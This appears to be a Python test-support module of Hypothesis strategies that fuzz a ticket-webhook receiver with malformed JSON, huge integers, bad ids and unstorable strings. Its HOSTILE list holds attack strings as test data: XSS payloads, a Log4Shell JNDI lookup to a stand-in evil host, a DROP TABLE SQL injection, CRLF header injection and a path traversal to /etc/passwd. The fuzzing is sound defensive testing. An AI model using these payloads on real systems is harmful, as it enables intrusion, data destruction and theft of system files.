"""Hypothesis strategies for the bad-input fuzzer (tests/faults/test_fuzz.py).

Every strategy here is hostile on purpose, including the inputs behind the bugs the fuzzer
found (lone surrogates, 4,300+-digit numbers, unhashable fields, non-ASCII digits).
"""

from __future__ import annotations

import json
import re

from hypothesis import strategies as st

INT_MAX_STR_DIGITS = 4300  # CPython's limit on int <-> decimal string conversion

HOSTILE = (
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>',
    "</textarea><svg/onload=alert(1)>", "javascript:alert(document.cookie)", "{{7*7}}{%raw%}",
    "${jndi:ldap://evil.example/a}", "'; DROP TABLE inbox; --", "\" OR 1=1 --", "\u202eevil",
    "\u0000", "\ufeff", "\u2028\u2029", "𝕏𝔂𝔃", "İıŞşĞğÇçÖöÜü", "Siparişim hâlâ gelmedi", "ß",
    "\r\n\r\nX-Injected: 1", "../../../etc/passwd", "%00%ff%2e%2e", "\\u0000", "zen:ticket:1",
    "zen:event-type:ticket.created", "NaN", "null", "😀" * 8, "a" * 3000, " \t\n ", "０１２",
)

_NO_SURROGATES = st.characters(codec="utf-8")
_JSON_CHARACTERS = st.characters(exclude_categories=())  # lone surrogates too, as \udXXX
LATIN1 = st.characters(min_codepoint=0x20, max_codepoint=0xFF,
                       exclude_characters="".join(map(chr, range(0x7F, 0xA0))))


def _text(characters, max_size: int, min_size: int) -> st.SearchStrategy[str]:
    pieces = st.one_of(st.text(characters, max_size=8), st.sampled_from(HOSTILE))
    return st.one_of(
        st.text(characters, min_size=min_size, max_size=max_size),
        st.sampled_from(HOSTILE),
        st.lists(pieces, min_size=1, max_size=4).map("".join),
    ).map(lambda s: s[:max_size]).filter(lambda s: len(s) >= min_size)


def text(max_size: int = 40, min_size: int = 0) -> st.SearchStrategy[str]:
    """Unicode text (no lone surrogates), HTML/script/SQL snippets, and mixtures of both."""
    return _text(_NO_SURROGATES, max_size, min_size)


def jtext(max_size: int = 40, min_size: int = 0) -> st.SearchStrategy[str]:
    """Text for JSON strings: lone surrogates too (\\udXXX escapes, or CESU-8 bytes)."""
    return _text(_JSON_CHARACTERS, max_size, min_size)


def header_text(max_size: int = 60, min_size: int = 0) -> st.SearchStrategy[str]:
    """What an HTTP header value can carry: printable Latin-1."""
    return st.text(LATIN1, min_size=min_size, max_size=max_size)


def huge_text() -> st.SearchStrategy[str]:
    """One character repeated up to past the 256 KB body limit (cheap to build)."""
    return st.builds(lambda c, n: c * n, st.sampled_from("x€😀<\u0000\\\""),
                     st.integers(10_000, 300_000))


# -- JSON --------------------------------------------------------------------------------------

_BIG = "@@BIGINT:{}@@"


def big_int_digits() -> st.SearchStrategy[int]:
    """Digit counts for integers in JSON, past CPython's 4,300-digit limit too."""
    return st.integers(1, INT_MAX_STR_DIGITS + 1700)


def ints() -> st.SearchStrategy:
    return st.one_of(st.integers(), st.integers(-(2**70), 2**70),
                     big_int_digits().map(lambda n: _BIG.format(n)))


def dumps(value, ensure_ascii: bool = True) -> bytes:
    """JSON bytes; big-integer placeholders become literal digits (json.dumps can't write them).

    Lone surrogates written without ensure_ascii become CESU-8 bytes: not UTF-8.
    """
    raw = json.dumps(value, ensure_ascii=ensure_ascii)
    raw = re.sub(r'"@@BIGINT:(\d+)@@"', lambda m: "7" * int(m.group(1)), raw)
    return raw.encode("utf-8", "surrogatepass")


def json_scalars() -> st.SearchStrategy:
    return st.one_of(st.none(), st.booleans(), ints(), st.floats(), jtext())


def json_values(max_leaves: int = 15) -> st.SearchStrategy:
    return st.recursive(
        json_scalars(),
        lambda kids: st.lists(kids, max_size=5) | st.dictionaries(jtext(20), kids, max_size=5),
        max_leaves=max_leaves,
    )


def truthy_non_strings() -> st.SearchStrategy:
    """Values that are truthy but not strings: wrong for every text field."""
    return st.one_of(
        st.integers().filter(bool), st.floats(allow_nan=False).filter(bool), st.just(True),
        st.lists(json_scalars(), min_size=1, max_size=3),
        st.dictionaries(jtext(10), json_scalars(), min_size=1, max_size=3),
    )


def non_dicts() -> st.SearchStrategy:
    return st.one_of(json_scalars(), st.lists(json_scalars(), max_size=3))


# -- ids ---------------------------------------------------------------------------------------

ASCII_IDS = st.from_regex(r"[0-9]{1,40}", fullmatch=True)
# Non-ASCII Unicode digits pass str.isdigit(): see test_fixed_bug_unicode_digit_ids.
UNICODE_DIGIT_IDS = st.sampled_from(["²", "١٢٣", "٣", "𝟙𝟚", "੧੨", "①"])


def bad_ids() -> st.SearchStrategy:
    """Anything that is not a Zendesk/Freshdesk id: no empty string, no null (those mean absent)."""
    non_digit = jtext(min_size=1).filter(lambda s: not s.isdigit())
    options = [
        non_digit,
        st.integers(41, 300).map(lambda n: "1" * n),
        st.integers(max_value=-1),
        st.integers(min_value=10**40),
        st.floats(),
        st.booleans(),
        st.lists(json_scalars(), max_size=3),
        st.dictionaries(jtext(5), json_scalars(), max_size=2),
        UNICODE_DIGIT_IDS,
    ]
    return st.one_of(options)


def good_ids(ticket: str | None = None) -> st.SearchStrategy:
    """A valid id: ASCII digits as a string, or a non-negative integer (≤ 40 digits)."""
    if ticket is not None:
        same = [st.just(ticket)]
        if str(int(ticket)) == ticket:
            same.append(st.just(int(ticket)))
        return st.one_of(same)
    return st.one_of(ASCII_IDS, st.integers(0, 10**40 - 1))


def unhashables() -> st.SearchStrategy:
    return st.one_of(st.lists(json_scalars(), max_size=3),
                     st.dictionaries(jtext(5), json_scalars(), max_size=2))


def bad_ft_events() -> st.SearchStrategy:
    """ft_event values that are not ticket.created/ticket.updated."""
    wrong = jtext().filter(lambda s: s not in {"ticket.created", "ticket.updated"})
    options = [wrong, st.sampled_from(["TICKET.CREATED", "ticket.created ", "ticket.solved",
                                       "zen:event-type:ticket.created"]),
               st.integers(), st.floats(), st.booleans(),
               unhashables()]  # a list or object once crashed the set lookup
    return st.one_of(options)


_HUGE_NUMBER = re.compile(rb"[:\[,]\s*-?[0-9]{%d,}" % (INT_MAX_STR_DIGITS + 1))


def json_refused(raw: bytes) -> bool:
    """True when RAW is no JSON document CPython can read: not UTF-8, or a 4,301+-digit number."""
    try:
        raw.decode("utf-8")
    except UnicodeDecodeError:
        return True
    return _HUGE_NUMBER.search(raw) is not None


def unstorable(key: str, name: str = "") -> bool:
    """True when a delivery key or event name cannot be stored in every store (a lone
    surrogate, a NUL that PostgreSQL refuses, more than the columns hold): it must be refused."""
    try:
        (key + name).encode("utf-8")
    except UnicodeEncodeError:
        return True
    return "\x00" in key + name or len(key) > 200 or len(name) > 80
